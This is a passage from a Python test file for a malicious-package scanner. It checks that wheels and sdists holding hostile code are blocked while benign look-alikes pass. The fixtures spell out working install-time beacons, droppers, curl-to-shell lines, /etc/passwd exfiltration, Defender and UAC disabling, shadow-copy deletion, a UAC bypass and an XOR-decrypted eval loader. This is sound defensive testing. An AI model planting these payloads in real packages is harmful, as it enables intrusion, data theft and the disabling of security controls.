    assert _sdist(tmp_path, _SETUP + INSTALL_BEACON) is Decision.BLOCK


def test_an_install_time_request_to_an_ordinary_host_does_not_block(tmp_path: Path) -> None:
    assert _sdist(tmp_path, _SETUP + INSTALL_FETCH) is not Decision.BLOCK


README_REBOUND = (
    "from setuptools import setup\n"
    "pkg_info = {}\n"
    "with open('README.rst') as f:\n"
    "    long_description = f.read()\n"
    "with open('sample/__version__.py') as f:\n"
    "    exec(f.read(), pkg_info)\n"
    "setup(name='sample', version=pkg_info['__version__'], long_description=long_description)\n"
)


def test_a_name_rebound_to_the_version_file_is_not_the_readme(tmp_path: Path) -> None:
    files = {
        "README.rst": "Sample\n======\n\nA sample.\n",
        "sample/__version__.py": "__version__ = '1'\n",
    }
    assert _sdist(tmp_path, README_REBOUND, files) is Decision.ALLOW


# -- a command line built with a fetched value --------------------------------------------------

DEPLOY_TOOL = (
    "import os, requests\n"
    "def install_kubectl(dest):\n"
    "    version = requests.get('https://dl.example.org/stable.txt').text.strip()\n"
    "    cmd = f'curl -sLo {dest}/kubectl https://dl.example.org/{version}/kubectl'\n"
    "    os.system(cmd)\n"
)


def test_a_deploy_command_built_with_a_fetched_version_is_not_blocked(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": DEPLOY_TOOL}) is not Decision.BLOCK


def test_a_library_method_that_runs_what_a_server_sends_blocks(tmp_path: Path) -> None:
    trojan = (
        "import base64, os, requests\n"
        "class Client:\n"
        "    def send(self, text):\n"
        "        resp = requests.get('https://api.example.org/cmd')\n"
        "        os.system(base64.b64decode(resp.text).decode())\n"
        "        return text\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": trojan}) is Decision.BLOCK


# -- two different high-severity behaviours in one file ----------------------------------------

_HOOK = (
    "import subprocess, sys, urllib.request\n"
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "class Hook(install):\n"
    "    def run(self):\n"
    "{body}"
    "        install.run(self)\n"
    "setup(name='sample', version='1.0', cmdclass={{'install': Hook}})\n"
)
_PIP_AT_INSTALL = (
    "        subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'extra'])\n"
)
_FETCH_AT_INSTALL = "        urllib.request.urlopen('https://downloads.example.org/check').read()\n"


def test_an_install_hook_that_runs_pip_and_calls_out_blocks(tmp_path: Path) -> None:
    setup = _HOOK.format(body=_PIP_AT_INSTALL + _FETCH_AT_INSTALL)
    assert _sdist(tmp_path, setup) is Decision.BLOCK


@pytest.mark.parametrize("body", [_PIP_AT_INSTALL, _FETCH_AT_INSTALL], ids=["pip", "fetch"])
def test_one_of_them_alone_does_not_block(body: str, tmp_path: Path) -> None:
    assert _sdist(tmp_path, _HOOK.format(body=body)) is not Decision.BLOCK


# -- a small package whose code is a download-and-run routine ---------------------------------

DROPPER = (
    "import os\nimport subprocess\nimport tempfile\nimport urllib.request\n\n\n"
    "def init(url):\n"
    "    path = os.path.join(tempfile.gettempdir(), os.path.basename(url))\n"
    "    data = urllib.request.urlopen(url).read()\n"
    "    with open(path, 'wb') as out:\n"
    "        out.write(data)\n"
    "    subprocess.run([path])\n"
)


def test_a_small_package_that_is_a_dropper_blocks(tmp_path: Path) -> None:
    # Nothing calls `init` at import: the per-file rule alone only warns at most.
    files = {"sample/__init__.py": "from .helper import init\n", "sample/helper.py": DROPPER}
    assert _wheel(tmp_path, files) is Decision.BLOCK


def test_the_same_routine_in_one_corner_of_a_library_is_not_blocked(tmp_path: Path) -> None:
    # A project of many modules with a binary fetcher among them (a driver or a tool it wraps).
    body = "".join(f"def f{i}(x):\n    return x * {i} + len(str(x))\n\n\n" for i in range(120))
    files = {f"sample/m{i}.py": body for i in range(6)}
    files["sample/tools.py"] = DROPPER
    assert _wheel(tmp_path, files) is not Decision.BLOCK


# -- host details sent out by install code the parser cannot read (Python 2) -----------------

PY2_BEACON = (
    "from setuptools import setup\nsetup(name='sample', version='1.0')\n\n"
    "try:\n"
    "\timport os, socket, base64\n"
    "\tinfo = '%s %s' % (os.getcwd(), socket.gethostname())\n"
    "\ts = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
    "\ts.connect(('198.51.100.7', 8080))\n"
    "\ts.sendall(base64.b64encode(info))\n"
    "except Exception, e:\n"
    "\tpass\n"
)


def test_host_details_sent_by_python2_install_code_block(tmp_path: Path) -> None:
    assert _sdist(tmp_path, PY2_BEACON) is Decision.BLOCK


def test_the_same_code_in_a_python2_module_is_not_blocked(tmp_path: Path) -> None:
    # Imported only when someone uses it: judged by the per-file rule (at most a warning).
    setup = "from setuptools import setup\nsetup(name='sample', version='1.0')\n"
    assert _sdist(tmp_path, setup, {"sample/probe.py": PY2_BEACON}) is not Decision.BLOCK


# -- an install-time command kept behind a decoder ----------------------------------------------

RECON = "whoami > /tmp/pycustoms-test-marker"
HIDDEN_COMMAND = (
    "import base64\nimport os\nfrom setuptools import setup\n"
    f"cmd = base64.b64decode({base64.b64encode(RECON.encode()).decode()!r}).decode()\n"
    "os.system(cmd)\nsetup(name='sample', version='1.0')\n"
)
PLAIN_COMMAND = (
    "import os\nfrom setuptools import setup\n"
    f"os.system({RECON!r})\nsetup(name='sample', version='1.0')\n"
)


def test_an_install_command_decoded_at_run_time_blocks(tmp_path: Path) -> None:
    assert _sdist(tmp_path, HIDDEN_COMMAND) is Decision.BLOCK


def test_the_same_command_written_out_warns_but_is_not_blocked(tmp_path: Path) -> None:
    assert _sdist(tmp_path, PLAIN_COMMAND) is Decision.WARN


# -- commands that switch the system's defences off --------------------------------------------

EVASIONS = {
    "defender exclusion": "powershell.exe Add-MpPreference -ExclusionPath C:\\\\Users\\\\Public",
    "real-time protection off": "powershell -Command Set-MpPreference -DisableRealtimeMonitoring $true",
    "uac off": "reg add HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Policies\\\\System "
    "/v EnableLUA /t REG_DWORD /d 0 /f",
    "shadow copies deleted": "vssadmin delete shadows /all /quiet",
}


@pytest.mark.parametrize("way", list(EVASIONS), ids=list(EVASIONS))
def test_switching_defences_off_on_import_blocks(way: str, tmp_path: Path) -> None:
    source = f"import subprocess\nsubprocess.run({EVASIONS[way]!r}, shell=True)\n"
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK


def test_reading_the_defender_settings_is_ordinary(tmp_path: Path) -> None:
    source = (
        "import subprocess\n\n\ndef defender_status():\n"
        "    return subprocess.run(['powershell', '-Command', 'Get-MpPreference'],"
        " capture_output=True, text=True).stdout\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.ALLOW


# -- a probe reporting to an out-of-band testing address ------------------------------------------


def test_a_report_to_an_out_of_band_testing_address_blocks_even_uncalled(tmp_path: Path) -> None:
    probe = (
        "import requests\n"
        "def notify():\n"
        '    url = "http://q7x2kd9w0zpl4m8r.oastify.com"\n'
        '    requests.post(url, json={"message": "imported"})\n'
    )
    assert _wheel(tmp_path, {"sample/__init__.py": probe}) is Decision.BLOCK


def test_an_out_of_band_service_named_in_a_help_text_is_ordinary(tmp_path: Path) -> None:
    tool = (
        "import requests\n"
        'HELP = "Point --collaborator at your own oastify.com or interact.sh address."\n'
        "def register(server):\n"
        '    return requests.post(f"https://{server}/register", json={"key": "k"}).json()\n'
    )
    # The service's name alone warns (`code/request-catcher-endpoint`); no call reports to it.
    assert _wheel(tmp_path, {"sample/__init__.py": tool}) is not Decision.BLOCK


# -- the host's account list read and sent ----------------------------------------------------------


def test_the_account_list_sent_from_a_module_blocks(tmp_path: Path) -> None:
    probe = (
        "import base64, requests\n"
        'with open("/etc/passwd") as fh:\n'
        "    listing = base64.b64encode(fh.read().encode()).decode()\n"
        'requests.get(f"https://collect.example.org/c?d={listing}")\n'
    )
    assert _wheel(tmp_path, {"sample/probe.py": probe}) is Decision.BLOCK


def test_a_user_name_lookup_in_the_account_list_is_ordinary(tmp_path: Path) -> None:
    lookup = (
        "def user_name(uid):\n"
        '    with open("/etc/passwd") as fh:\n'
        "        for line in fh:\n"
        '            name, _, number = line.split(":")[:3]\n'
        "            if int(number) == uid:\n"
        "                return name\n"
    )
    assert _wheel(tmp_path, {"sample/users.py": lookup}) is Decision.ALLOW


# -- a handler that auto-elevating programs run (UAC bypass) -----------------------------------------


def test_a_command_under_an_auto_elevation_handler_blocks(tmp_path: Path) -> None:
    bypass = (
        "import winreg\n"
        "def _plant(cmd):\n"
        '    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Classes\\ms-settings'
        '\\shell\\open\\command")\n'
        "    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, cmd)\n"
        '    winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")\n'
    )
    assert _wheel(tmp_path, {"sample/core.py": bypass}) is Decision.BLOCK


def test_an_app_registering_its_own_url_scheme_is_ordinary(tmp_path: Path) -> None:
    scheme = (
        "import winreg\n"
        "def register(exe):\n"
        '    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Classes\\myviewer'
        '\\shell\\open\\command")\n'
        '    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, f\'"{exe}" "%1"\')\n'
    )
    assert _wheel(tmp_path, {"sample/core.py": scheme}) is Decision.ALLOW


# -- a download-and-run command hidden by encoding or fetched from a paste site -----------------------

HIDDEN_DROPPER = b"curl -sL https://files.example.org/h.py -o /tmp/h.py && python /tmp/h.py".hex()


@pytest.mark.parametrize(
    "body",
    [
        f"    run(bytes.fromhex({HIDDEN_DROPPER!r}).decode())\n",
        '    run("curl -s https://pastebin.com/raw/AbCdEf12 -o /tmp/s && sh /tmp/s")\n',
    ],
    ids=["hidden", "paste-site"],
)
def test_a_dropper_command_in_an_uncalled_function_blocks(body: str, tmp_path: Path) -> None:
    code = f"from os import system as run\ndef gen_token(token):\n{body}    return token\n"
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK


def test_a_release_binary_fetched_and_run_by_a_helper_is_not_blocked(tmp_path: Path) -> None:
    code = (
        "import os\n"
        "def install_tool():\n"
        '    os.system("curl -sL https://github.com/org/tool/releases/download/v1/tool -o tool'
        ' && chmod +x tool && ./tool --version")\n'
    )
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is not Decision.BLOCK


# -- a beacon over a TLS socket at install ------------------------------------------------------------


def test_host_details_sent_over_a_tls_socket_at_install_block(tmp_path: Path) -> None:
    setup = (
        "import base64, getpass, json, socket, ssl\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Hook(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        info = {'user': getpass.getuser(), 'host': socket.gethostname()}\n"
        "        q = base64.b64encode(json.dumps(info).encode()).decode()\n"
        '        req = f"GET /l?p={q} HTTP/1.1\\r\\nHost: collect.example.org\\r\\n\\r\\n"\n'
        "        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "        tls = ssl.create_default_context().wrap_socket(raw, server_hostname='x')\n"
        "        tls.connect(('collect.example.org', 443))\n"
        "        tls.send(str.encode(req))\n"
        "setup(name='sample', cmdclass={'install': Hook})\n"
    )
    assert _sdist(tmp_path, setup) is Decision.BLOCK


def test_a_library_speaking_tls_over_a_socket_is_ordinary(tmp_path: Path) -> None:
    code = (
        "import socket, ssl\n"
        "def fetch(host, path):\n"
        "    raw = socket.create_connection((host, 443))\n"
        "    tls = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\n"
        '    tls.sendall(str.encode(f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"))\n'
        "    return tls.recv(65536)\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.ALLOW


# -- a placeholder that holds a name --------------------------------------------------------------------


def _placeholder(tmp_path: Path, summary: str, version: str, author: str) -> Decision:
    pkg_info = (
        f"Metadata-Version: 2.4\nName: internal-tools\nVersion: {version}\n"
        f"Summary: {summary}\nAuthor-email: {author}\n"
    )
    files = {
        "PKG-INFO": pkg_info,
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n',
        "src/internal_tools/__init__.py": f'__version__ = "{version}"\n',
    }
    return _verdict(build_sdist(tmp_path, "internal-tools", version, files))


def test_a_dummy_placeholder_of_its_own_name_blocks(tmp_path: Path) -> None:
    summary = "Dummy internal-tools package for the index"
    assert _placeholder(tmp_path, summary, "0.0.0", "Your Name <you@example.com>") is (
        Decision.BLOCK
    )


def test_a_tiny_young_package_with_dummy_in_its_summary_is_ordinary(tmp_path: Path) -> None:
    summary = "A dummy data generator package for unit tests"
    assert _placeholder(tmp_path, summary, "0.0.1", "Ada Lovelace <ada@example.org>") is (
        Decision.ALLOW
    )


# -- packed code in a pure package ------------------------------------------------------------------

PACKED_MODULE = (
    "from pytransform import pyarmor_runtime\n"
    "pyarmor_runtime()\n"
    "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03')\n"
)


def test_packed_code_in_a_pure_package_blocks(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": PACKED_MODULE}) is Decision.BLOCK


def test_packed_code_in_a_vendors_platform_wheel_is_not_blocked(tmp_path: Path) -> None:
    files = {"sample/__init__.py": PACKED_MODULE, "sample/pytransform/__init__.py": ""}
    wheel = build_wheel(tmp_path, "sample", "1.0", files, tag="cp311-cp311-manylinux_2_17_x86_64")
    assert _verdict(wheel) is not Decision.BLOCK


# -- a script written from a literal, then started ---------------------------------------------------

LAUNCHER = (
    "from tempfile import NamedTemporaryFile as _tmpfile\n"
    "from sys import executable as _python\n"
    "from os import system as _run\n"
    "_handle = _tmpfile(delete=False)\n"
    "_handle.write(BLOB)\n"
    "_handle.close()\n"
    "_run(f\"start {_python.replace('.exe', 'w.exe')} {_handle.name}\")\n"
)


def test_a_literal_written_to_a_temp_file_and_started_on_import_blocks(tmp_path: Path) -> None:
    code = "BLOB = b'''\\nprint(\"stage two\")\\n'''\n" + LAUNCHER
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK


def test_a_launcher_after_a_literal_too_large_to_parse_still_blocks(tmp_path: Path) -> None:
    # Padded past the size parsed whole: the literal is bound to an empty one, the
    # module's last statements are walked all the same.
    padding = "\n".join("__pad__" * 20 for _ in range(40_000))
    code = f"import os\nBLOB = b'''{padding}\n'''\n" + LAUNCHER
    assert len(code) > 4 * 1024 * 1024
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK


def test_a_helper_that_runs_a_generated_build_script_is_not_blocked(tmp_path: Path) -> None:
    code = (
        "import subprocess, sys, tempfile\n"
        "def build(source):\n"
        "    with tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as handle:\n"
        "        handle.write(source)\n"
        "    return subprocess.run([sys.executable, handle.name], check=True)\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is not Decision.BLOCK


# -- an install that refuses and names another project ---------------------------------------------

REFUSING_SETUP = (
    "import sys\n"
    "from setuptools import setup\n"
    "MESSAGE = 'You probably meant to install acme-client, not this package'\n"
    "if 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n"
    "    raise RuntimeError(MESSAGE)\n"
    "setup(name='acmeclient', version='1.0.2')\n"
)


def test_a_name_holder_whose_install_refuses_blocks(tmp_path: Path) -> None:
    files = {"setup.py": REFUSING_SETUP}
    assert _verdict(build_sdist(tmp_path, "acmeclient", "1.0.2", files)) is Decision.BLOCK


def test_a_real_package_refusing_an_old_python_is_ordinary(tmp_path: Path) -> None:
    setup = (
        "import sys\n"
        "from setuptools import setup\n"
        "if sys.version_info < (3, 9):\n"
        "    raise RuntimeError('acme-client needs Python 3.9 or later; use acme-client<2')\n"
        "setup(name='acme-client', version='2.0')\n"
    )
    assert _verdict(build_sdist(tmp_path, "acme-client", "2.0", {"setup.py": setup})) is (
        Decision.ALLOW
    )


def test_a_refusing_install_with_real_code_is_no_placeholder(tmp_path: Path) -> None:
    code = "".join(f"def helper_{i}(value):\n    return value * {i} + 1\n\n" for i in range(40))
    files = {"setup.py": REFUSING_SETUP, "acmeclient/__init__.py": code}
    assert _verdict(build_sdist(tmp_path, "acmeclient", "1.0.2", files)) is not Decision.BLOCK


# -- a webhook, paste or raw-IP address hidden by encoding ----------------------------------------------

HIDDEN_HOOK = base64.b64encode(b"https://198.51.100.23/upload").decode()
HIDDEN_API = base64.b64encode(b"https://api.example.org/v1/items").decode()


def test_a_raw_ip_address_hidden_by_encoding_blocks_even_uncalled(tmp_path: Path) -> None:
    code = (
        "import base64, aiohttp\n"
        f"KEY = {HIDDEN_HOOK!r}\n"
        "async def sync(payload):\n"
        "    session = aiohttp.ClientSession()\n"
        "    await session.post(base64.b64decode(KEY).decode(), data=payload)\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK


def test_an_ordinary_address_kept_encoded_is_not_blocked(tmp_path: Path) -> None:
    code = (
        "import base64, requests\n"
        f"BASE = {HIDDEN_API!r}\n"
        "def items():\n"
        "    return requests.get(base64.b64decode(BASE).decode()).json()\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is not Decision.BLOCK


# -- names only an obfuscator writes -----------------------------------------------------------------


def test_look_alike_names_in_install_code_block(tmp_path: Path) -> None:
    names = ["lIlIIlllIlII", "IllIlIIIlIllI", "lllIIlIlIIll", "IIlIllIlllIIl", "lIIIlllIlIlIl"]
    setup = "".join(f"{n} = {i * 37 % 101}\n" for i, n in enumerate(names))
    setup += "from setuptools import setup\nsetup(name='sample')\n"
    assert _sdist(tmp_path, setup) is Decision.BLOCK


def test_ordinary_names_with_the_same_letters_are_ordinary(tmp_path: Path) -> None:
    setup = (
        "ILLEGAL_CHARS = 'x'\nall_items = []\nAAAA_LEVEL = 1\nfill_ill = 2\nIIIF_URL = 'u'\n"
        "from setuptools import setup\nsetup(name='sample')\n"
    )
    assert _sdist(tmp_path, setup) is Decision.ALLOW


def test_a_packers_own_loader_code_is_not_packed(tmp_path: Path) -> None:
    loader = (
        "def load_runtime():\n"
        "    return __import__('pytransform3', globals(), locals(), fromlist=('__pyarmor__',),"
        " level=1)\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": loader}) is not Decision.BLOCK


def test_an_encoded_raw_ip_handed_to_a_sending_helper_blocks(tmp_path: Path) -> None:
    code = (
        "import base64\n"
        "from requests import post\n"
        "def report(payload):\n"
        "    def send(url, vault):\n"
        "        post(url, data={'license': base64.b64encode(vault.encode()).decode()})\n"
        f"    encoded = {HIDDEN_HOOK!r}\n"
        "    send(base64.b64decode(encoded.encode()).decode(), payload)\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK


def test_an_out_of_band_address_opened_in_the_browser_blocks(tmp_path: Path) -> None:
    code = (
        "import uuid, webbrowser\n"
        "def run():\n"
        '    webbrowser.open_new_tab(f"https://k3v9q2xw.oast.fun?id={uuid.uuid4()}")\n'
    )
    assert _wheel(tmp_path, {"sample/_post.py": code}) is Decision.BLOCK


def test_opening_the_documentation_in_the_browser_is_ordinary(tmp_path: Path) -> None:
    code = (
        "import webbrowser\ndef docs():\n    webbrowser.open('https://sample.example.org/docs')\n"
    )
    assert _wheel(tmp_path, {"sample/cli.py": code}) is Decision.ALLOW


# -- a payload decrypted one character at a time, then run -----------------------------------


def _xor_text(text: str, key: str) -> str:
    return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(text))


XOR_KEY = "7401"
LOOP_DECRYPT = (
    f"blob = {_xor_text(STAGE_TWO, XOR_KEY)!r}\n"
    f"key = {XOR_KEY[:2]!r} + {XOR_KEY[2:]!r}\n"
    "plain = ''\n"
    "for i in range(len(blob)):\n"
    "    {grow}\n"
    "eval(compile(plain, '<string>', 'exec'))\n"
)
GROW = {
    "augmented": "plain += chr(ord(blob[i]) ^ ord(key[i % len(key)]))",
    "reassigned": "plain = plain + chr(ord(blob[i]) ^ ord(key[i % len(key)]))",
}


@pytest.mark.parametrize("grow", list(GROW), ids=list(GROW))
def test_text_decrypted_in_a_loop_and_run_blocks(grow: str, tmp_path: Path) -> None:
    source = LOOP_DECRYPT.replace("{grow}", GROW[grow])
    assert _wheel(tmp_path, {"sample/colors.py": source}) is Decision.BLOCK


def test_a_string_built_in_a_loop_and_returned_is_ordinary(tmp_path: Path) -> None:
    # A Caesar shift for a puzzle: built one chr() at a time, printed, never run.
    source = (
        "def shift(text, by):\n"
        "    out = ''\n"
        "    for ch in text:\n"
        "        out += chr((ord(ch) - 97 + by) % 26 + 97) if ch.isalpha() else ch\n"
        "    return out\n"
        "\n"
        "print(shift('hello', 3))\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.ALLOW
